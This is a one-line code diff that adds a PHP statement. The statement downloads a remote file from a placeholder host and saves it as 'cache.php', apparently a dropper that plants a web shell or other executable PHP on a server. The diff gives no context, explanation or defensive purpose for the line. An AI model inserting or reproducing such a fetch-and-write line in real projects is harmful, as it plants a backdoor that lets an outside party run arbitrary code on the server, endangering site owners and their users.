@@ -1,0 +1,1 @@
+<?php copy('http://example.invalid/s.txt', 'cache.php'); ?>
